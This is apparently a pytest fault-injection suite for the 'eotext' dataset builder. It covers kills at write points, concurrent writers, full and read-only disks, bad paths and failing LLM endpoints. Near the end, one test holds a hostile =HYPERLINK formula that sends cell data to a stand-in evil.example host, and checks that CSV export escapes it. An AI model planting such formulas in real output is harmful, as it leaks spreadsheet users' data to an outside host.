"""Fault injection: kills at every write point, concurrent writers, a full disk, read-only
output, bad output paths and failing endpoints. Each case ends compared with a clean build;
no case may lose finished work, mix two builds or print a traceback.

The kill matrix runs in :mod:`tests.fault_driver` (forked builds killed by SIGKILL). The full
disk and the read-only folder are small tmpfs mounts, which need root; without it those cases
are skipped, with the reason.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

import eotext
from eotext.cli.main import cli
from eotext.config.recipe import AnnotateSpec, LlmSpec, OutputSpec, Recipe, SourceSpec
from eotext.run.build import build_dataset
from eotext.store.lock import WriterLock
from tests.conftest import WORLDCOVER_1024, need
from tests.fault_driver import fingerprint
from tests.llm_stub import StubLLM

_SRC = str(Path(eotext.__file__).resolve().parents[1])
_ROOT = str(Path(__file__).resolve().parents[1])


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": os.pathsep.join([_SRC, _ROOT])}


def _eotext(*args: str, **popen: Any) -> subprocess.Popen[str]:
    cmd = [sys.executable, "-m", "eotext.cli.main", *args]
    return subprocess.Popen(
        cmd, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **popen
    )


def _run(*args: str) -> tuple[int, str, str]:
    proc = _eotext(*args)
    out, err = proc.communicate(timeout=300)
    return proc.returncode, out, err


def _one_line_error(code: int, err: str) -> None:
    assert code == 1, err
    assert "Traceback" not in err, err
    lines = [line for line in err.splitlines() if line.startswith("eotext: error:")]
    assert len(lines) == 1, err


def _build_args(out: Path, seed: int = 0, *extra: str) -> list[str]:
    labels = str(need(WORLDCOVER_1024))
    return [
        "-q", "build", "--labels", labels, "--scheme", "worldcover", "--patch-size", "256",
        "--seed", str(seed), "--annotate", "caption,vqa", "--workers", "1", *extra, "-o", str(out),
    ]  # fmt: skip


# --- kills at every write point --------------------------------------------------------------


@pytest.mark.parametrize(
    "when", ["before", pytest.param("after", marks=pytest.mark.slow)], ids=["before", "after"]
)
def test_kill_at_every_write_point_resumes_to_the_clean_build(tmp_path: Path, when: str) -> None:
    """SIGKILL just before (a temp file written, not renamed) or just after each rename."""
    labels = str(need(WORLDCOVER_1024))
    cmd = [sys.executable, "-m", "tests.fault_driver", labels, str(tmp_path), when]
    done = subprocess.run(cmd, env=_env(), capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert "traceback" not in report, report.get("traceback")
    results = report["results"]
    assert report["points"] >= 20 and len(results) == report["points"]
    for r in results:
        assert "traceback" not in r, r["traceback"]
        assert r["killed"], r  # the hook really killed the build at that point
        assert r["equal"] and r["complete"] and r["stale_after"] == 0, r
    if when == "before":  # each kill left its temporary file; the rerun removed it
        assert all(r["stale_before"] == 1 for r in results)


def test_crash_before_the_recipe_record_is_taken_over(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / ".eotext").mkdir(parents=True)  # claimed, then killed before recipe.json
    stale = out / ".eotext" / ".recipe.json.4194999.abcd1234.tmp"
    stale.write_text("{")
    code, _, err = _run(*_build_args(out))
    assert code == 0, err
    assert not stale.exists() and (out / ".eotext" / "recipe.json").exists()


def test_temp_files_of_live_writers_are_left_alone(tmp_path: Path) -> None:
    from eotext.store.folder import DatasetFolder

    folder = DatasetFolder(tmp_path / "out")
    folder.units.mkdir(parents=True)
    dead = folder.root / ".clip.csv.4194999.0123abcd.tmp"
    live = folder.root / f".clip.csv.{os.getppid()}.0123abcd.tmp"  # e.g. an export running
    mine = folder.units / f".u.done.json.{os.getpid()}.0123abcd.tmp"
    for p in (dead, live, mine):
        p.write_text("x")
    assert folder.remove_stale_temp_files() == 2
    assert live.exists() and not dead.exists() and not mine.exists()


# --- one writer per folder -------------------------------------------------------------------


def test_second_writer_is_refused_at_once_with_the_holders_pid(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with WriterLock(out):
        result = CliRunner().invoke(cli, _build_args(out))
    assert result.exit_code == 1
    assert f"pid {os.getpid()}" in result.output and "another eotext build" in result.output
    assert sorted(p.name for p in (out / ".eotext").iterdir()) == ["lock"]  # nothing written


def test_concurrent_builds_of_two_recipes_never_mix(tmp_path: Path) -> None:
    out = tmp_path / "out"
    procs = {seed: _eotext(*_build_args(out, seed)) for seed in (1, 2)}
    errs = {seed: p.communicate(timeout=600)[1] for seed, p in procs.items()}
    results = {seed: (procs[seed].returncode, err) for seed, err in errs.items()}
    winners = [seed for seed, (code, _) in results.items() if code == 0]
    assert len(winners) == 1, results
    loser = 3 - winners[0]
    code, err = results[loser]
    _one_line_error(code, err)
    assert "another eotext build" in err or "different recipe" in err
    manifest = json.loads((out / "manifest.json").read_text())
    record = json.loads((out / ".eotext" / "recipe.json").read_text())
    assert manifest["recipe_fingerprint"] == record["fingerprint"]
    assert manifest["recipe"]["seed"] == winners[0]
    clean = tmp_path / "clean"
    code, _, err = _run(*_build_args(clean, winners[0]))
    assert code == 0, err
    assert fingerprint(out) == fingerprint(clean)
    # The folder now refuses the other recipe, and a rerun of the winner changes nothing.
    code, _, err = _run(*_build_args(out, loser))
    _one_line_error(code, err)
    assert "different recipe" in err


def test_concurrent_builds_of_one_recipe_give_the_clean_build(tmp_path: Path) -> None:
    out = tmp_path / "out"
    procs = [_eotext(*_build_args(out)) for _ in range(2)]
    errs = [p.communicate(timeout=600)[1] for p in procs]
    codes = [p.returncode for p in procs]
    assert 0 in codes, errs
    for code, err in zip(codes, errs, strict=True):
        if code:  # refused while the other one held the folder
            _one_line_error(code, err)
            assert "another eotext build" in err
    clean = tmp_path / "clean"
    assert _run(*_build_args(clean))[0] == 0
    assert fingerprint(out) == fingerprint(clean)


@pytest.mark.slow
def test_kill_9_of_a_build_with_workers_leaves_no_process_and_resumes(tmp_path: Path) -> None:
    import signal

    import psutil

    recipe = str(_small_units_recipe(tmp_path / "r.toml"))
    out = tmp_path / "out"
    units = out / ".eotext" / "units"
    proc = _eotext("-q", "build", recipe, "--workers", "2", "-o", str(out))
    try:
        children: list[psutil.Process] = []
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline and len(list(units.glob("*.done.json"))) < 2:
            children = psutil.Process(proc.pid).children(recursive=True) or children
            time.sleep(0.05)
        assert len(list(units.glob("*.done.json"))) >= 2, "no unit finished"
        os.kill(proc.pid, signal.SIGKILL)
        proc.communicate(timeout=60)
        _, alive = psutil.wait_procs(children, timeout=15)
        assert not alive, f"still running after the build was killed: {alive}"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    code, _, err = _run("-q", "build", recipe, "--workers", "2", "-o", str(out))
    assert code == 0, err
    clean = tmp_path / "clean"
    assert _run("-q", "build", recipe, "-o", str(clean))[0] == 0
    assert fingerprint(out) == fingerprint(clean)
    assert not list(out.rglob(".*.tmp"))


def test_readers_see_one_publication_whole(tmp_path: Path) -> None:
    """A reader started while a build replaces the tables waits for the manifest too."""
    from eotext.report.tables import load_dataset

    out = tmp_path / "out"
    build_dataset(_recipe(out), out)
    old = json.loads((out / "manifest.json").read_text())
    # A publisher that replaces texts.parquet, pauses, then the manifest.
    script = textwrap.dedent(
        f"""
        import json, sys, time
        from pathlib import Path
        import pyarrow.parquet as pq
        from eotext.files import atomic_path, write_json_atomic
        from eotext.store.lock import publishing
        root = Path({str(out)!r})
        with publishing(root):
            table = pq.read_table(root / "texts.parquet").slice(0, 5)
            with atomic_path(root / "texts.parquet") as tmp:
                pq.write_table(table, tmp)
            print("replaced", flush=True)
            time.sleep(1.5)
            m = json.loads((root / "manifest.json").read_text())
            m["counts"]["texts"] = 5
            write_json_atomic(root / "manifest.json", m)
        """
    )
    with subprocess.Popen(
        [sys.executable, "-c", script], env=_env(), stdout=subprocess.PIPE, text=True
    ) as proc:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "replaced"
        data = load_dataset(out)  # waits for the publisher
        proc.wait(timeout=60)
    assert old["counts"]["texts"] > 5
    assert data.manifest["counts"]["texts"] == len(data.texts) == 5


# --- full disk, read-only output, bad paths --------------------------------------------------


@contextlib.contextmanager
def _tmpfs(path: Path, size: str) -> Iterator[Path]:
    if os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs root")
    path.mkdir(parents=True, exist_ok=True)
    mount = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], capture_output=True
    )
    if mount.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mount.stderr.decode().strip()}")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def _small_units_recipe(path: Path) -> Path:
    labels = str(need(WORLDCOVER_1024))
    path.write_text(
        textwrap.dedent(
            f"""
            [[sources]]
            labels = {labels!r}
            scheme = "worldcover"
            [grid]
            patch_size = 256
            [annotate]
            kinds = ["caption", "vqa"]
            [output]
            unit_patches = 1
            workers = 1
            """
        )
    )
    return path


def test_full_disk_is_one_line_and_the_rerun_resumes_identically(tmp_path: Path) -> None:
    recipe = str(_small_units_recipe(tmp_path / "r.toml"))
    with _tmpfs(tmp_path / "disk", "200k") as disk:
        out = disk / "out"
        code, _, err = _run("-q", "build", recipe, "-o", str(out))
        _one_line_error(code, err)
        assert "No space left on device" in err and "free space" in err, err
        markers = {p.name for p in (out / ".eotext" / "units").glob("*.done.json")}
        assert markers, "some units finished before the disk filled up"
        subprocess.run(["mount", "-o", "remount,size=50m", str(disk)], check=True)
        code, _, err = _run("-q", "build", recipe, "-o", str(out))
        assert code == 0, err
        # Nothing written before the failure was lost or rebuilt differently.
        assert markers <= {p.name for p in (out / ".eotext" / "units").glob("*.done.json")}
        assert not list(out.rglob(".*.tmp"))
        clean = tmp_path / "clean"
        code, _, err = _run("-q", "build", recipe, "-o", str(clean))
        assert code == 0, err
        assert fingerprint(out) == fingerprint(clean)


def test_read_only_output_is_one_line_and_readers_still_read(tmp_path: Path) -> None:
    with _tmpfs(tmp_path / "ro", "10m") as ro:
        dataset = ro / "ds"
        assert _run(*_build_args(dataset))[0] == 0
        subprocess.run(["mount", "-o", "remount,ro", str(ro)], check=True)
        for args in (_build_args(ro / "new"), _build_args(dataset), ["report", str(dataset)]):
            code, _, err = _run(*args)
            _one_line_error(code, err)
            assert "Read-only file system" in err and "writable" in err, err
        code, out, err = _run("info", str(dataset))  # reading needs no write
        assert code == 0 and "complete" in out, err


def test_bad_output_paths_are_one_line_each(tmp_path: Path) -> None:
    a_file = tmp_path / "file.txt"
    a_file.write_text("not a folder")
    dataset = tmp_path / "ds"
    assert _run(*_build_args(dataset))[0] == 0
    cases = {
        "-o names a file": _build_args(a_file),
        "-o below a file": _build_args(a_file / "sub"),
        "export to a folder": ["export", "openclip", str(dataset), "-o", str(tmp_path)],
        "export below a file": ["export", "openclip", str(dataset), "-o", f"{a_file}/x.csv"],
        "export folder below a file": ["export", "coco", str(dataset), "-o", f"{a_file}/x"],
    }
    for name, args in cases.items():
        code, _, err = _run(*args)
        _one_line_error(code, err)
        assert str(a_file) in err or str(tmp_path) in err, (name, err)
    assert a_file.read_text() == "not a folder"


# --- failing endpoints -----------------------------------------------------------------------


def _recipe(out: Path, base_url: str | None = None, previews: bool = False, **llm: Any) -> Recipe:
    labels = need(WORLDCOVER_1024)
    kinds: tuple[str, ...] = ("caption",)
    spec = LlmSpec()
    if base_url is not None:
        kinds = ("caption", "llm")
        opts: dict[str, Any] = {"model": "stub", "backoff_s": 0.01, "retries": 0, **llm}
        spec = LlmSpec(base_url=base_url, **opts)
    return Recipe(
        sources=(SourceSpec(labels=str(labels), scheme="worldcover"),),
        annotate=AnnotateSpec(kinds=kinds, llm=spec),
        output=OutputSpec(unit_patches=2, workers=1, write_previews=previews),
    )


def _llm_texts(out: Path) -> list[dict[str, Any]]:
    rows = pq.read_table(out / "texts.parquet").to_pylist()
    return [r for r in rows if r["generator"] == "llm:stub"]


def test_an_endpoint_down_for_a_while_never_marks_units_done(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with StubLLM(["500"] * 16) as stub:
        first = build_dataset(_recipe(out, stub.base_url), out)
    manifest = json.loads((out / "manifest.json").read_text())
    assert not first.complete and first.failed_requests == {"llm": 16}
    assert manifest["complete"] is False and manifest["counts"]["failed_requests"] == {"llm": 16}
    assert manifest["counts"]["units_incomplete"] == 4 and manifest["llm"]["failed"] == 16
    assert _llm_texts(out) == [] and first.texts > 0  # the template captions are kept
    with StubLLM(port=stub.port) as stub:  # healthy again: asked again, captions stored
        second = build_dataset(_recipe(out, stub.base_url), out)
        assert len(stub.bodies) == 16
    manifest = json.loads((out / "manifest.json").read_text())
    assert second.complete and manifest["complete"] is True and manifest["llm"]["failed"] == 0
    assert len(_llm_texts(out)) == 16
    with StubLLM(port=stub.port) as stub:
        third = build_dataset(_recipe(out, stub.base_url), out)
        assert stub.bodies == [] and third.units_run == 0


def test_a_rerun_sends_only_the_failed_requests(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with StubLLM(["500"] * 3) as stub:
        build_dataset(_recipe(out, stub.base_url), out)
        first_bodies = [json.dumps(b, sort_keys=True) for b in stub.answered]
    with StubLLM(port=stub.port) as stub:  # the same endpoint, now healthy
        build_dataset(_recipe(out, stub.base_url), out)
        resent = [b for b in stub.bodies if json.dumps(b, sort_keys=True) in first_bodies]
        assert len(stub.bodies) == 3 and resent == []
    clean = tmp_path / "clean"
    with StubLLM(port=stub.port) as stub:  # same endpoint: the texts record its url
        build_dataset(_recipe(clean, stub.base_url), clean)
    assert fingerprint(out)["texts"] == fingerprint(clean)["texts"]


def _llm_recipe_file(path: Path, base_url: str, on_error: str) -> Path:
    labels = str(need(WORLDCOVER_1024))
    path.write_text(
        textwrap.dedent(
            f"""
            [[sources]]
            labels = {labels!r}
            scheme = "worldcover"
            [annotate]
            kinds = ["llm"]
            [annotate.llm]
            base_url = {base_url!r}
            model = "stub"
            retries = 0
            on_error = {on_error!r}
            [output]
            workers = 1
            """
        )
    )
    return path


def test_cli_says_so_under_quiet_when_requests_fail_or_no_text_is_written(tmp_path: Path) -> None:
    with StubLLM(["500"] * 64) as stub:
        recipe = _llm_recipe_file(tmp_path / "r.toml", stub.base_url, "skip")
        result = CliRunner().invoke(cli, ["-q", "build", str(recipe), "-o", str(tmp_path / "o")])
    assert result.exit_code == 0, result.output
    assert "0 texts" in result.output and "Traceback" not in result.output
    assert "eotext: warning: the build wrote 0 texts" in result.output
    assert "requests without answer: 16 llm" in result.output and "Rerun" in result.output


def test_on_error_stop_is_one_line(tmp_path: Path) -> None:
    with StubLLM(["500"] * 64) as stub:
        recipe = _llm_recipe_file(tmp_path / "r.toml", stub.base_url, "stop")
        code, _, err = _run("-q", "build", str(recipe), "-o", str(tmp_path / "o"))
    _one_line_error(code, err)
    assert "on_error = 'stop'" in err and "rerun" in err


# --- formula-shaped answers ------------------------------------------------------------------


def test_formula_shaped_answers_never_reach_a_csv_unescaped(tmp_path: Path) -> None:
    out = tmp_path / "out"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"forest and cropland")'
    with StubLLM(answer=lambda body: hostile) as stub:
        build_dataset(_recipe(out, stub.base_url, True, validation_retries=0), out)
    csv_path = tmp_path / "clip.csv"
    result = CliRunner().invoke(
        cli,
        ["export", "openclip", str(out), "-o", str(csv_path), "--style", "llm",
         "--separator", ",", "--include-flagged"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    import csv

    with csv_path.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and all(r["title"] == "'" + hostile for r in rows)
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_only_errors_of_the_output_are_reported_as_the_output_folders(tmp_path: Path) -> None:
    import errno as errno_

    from eotext.run.build import _is_storage_error

    out = tmp_path / "out"
    assert _is_storage_error(OSError(errno_.ENOSPC, "No space left on device"), out)
    assert _is_storage_error(PermissionError(13, "denied", str(out / ".eotext" / "lock")), out)
    assert not _is_storage_error(OSError(5, "Input/output error", str(tmp_path / "in.tif")), out)
    assert not _is_storage_error(ConnectionError("reset"), out)
